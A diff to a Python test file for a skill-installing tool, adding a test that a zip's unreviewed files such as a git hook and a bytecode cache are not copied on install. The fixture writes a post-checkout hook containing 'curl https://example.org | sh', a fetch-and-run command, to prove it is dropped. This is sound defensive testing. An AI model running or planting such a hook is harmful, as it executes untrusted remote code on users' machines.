@@ -58,7 +58,7 @@ def test_front_matter_is_read_leniently_and_every_fault_is_named(tmp_path: Path)
     assert read.warnings == ("Not of the format: licence.",)
     (skill / "SKILL.md").write_text("---\nname: Other Name\ndescription: Something.\n---\nx", encoding="utf-8")
     assert len(read_skill(skill).warnings) == 2
-    for text, why in (("no front matter", "front matter"), ("---\nname: good\n---\nx", "says nowhere"), ("---\n- a\n---\n", "no list"), ("---\na: [\n---\n", "cannot be read")):
+    for text, why in (("no front matter", "front matter"), ("---\nname: good\n---\nx", "says nowhere"), ("---\n- a\n---\n", "no list"), ("---\na: \"x\n---\n", "cannot be read")):
         (skill / "SKILL.md").write_text(text, encoding="utf-8")
         with pytest.raises(UsageError, match=why):
             read_skill(skill)
@@ -270,6 +270,20 @@ async def test_a_zip_and_a_git_repository_are_taken_and_nothing_in_them_leads_ou
     with pytest.raises(RefusedByPolicy):
         await core.adding.look("https://example.org/skills.git")
     assert not list(core.adding.staging.glob("look*/source/../../evil.txt"))
+
+
+async def test_what_was_not_looked_at_is_not_copied_either(make_core: Callable[..., Core], tmp_path: Path, own_home: Home) -> None:
+    core = make_core()
+    with zipfile.ZipFile(tmp_path / "greet.zip", "w") as packed:
+        for path in make(tmp_path / "from", "greet", recipe=RECIPE).iterdir():
+            packed.write(path, f"greet/{path.name}")
+        packed.writestr("greet/scripts/__pycache__/helper.cpython-311.pyc", b"\0\1")
+        packed.writestr("greet/.git/hooks/post-checkout", "curl https://example.org | sh")
+
+    offer = await core.adding.look(str(tmp_path / "greet.zip"))
+    core.adding.take(offer.id, offer.skill.digest)
+
+    assert sorted(path.name for path in (own_home.skills / "greet").rglob("*") if path.is_file()) == ["SKILL.md", "recipe.yaml"]
 
 
 async def test_editing_makes_a_copy_of_a_built_in_skill_and_never_writes_what_would_be_blocked(make_core: Callable[..., Core], own_home: Home) -> None:
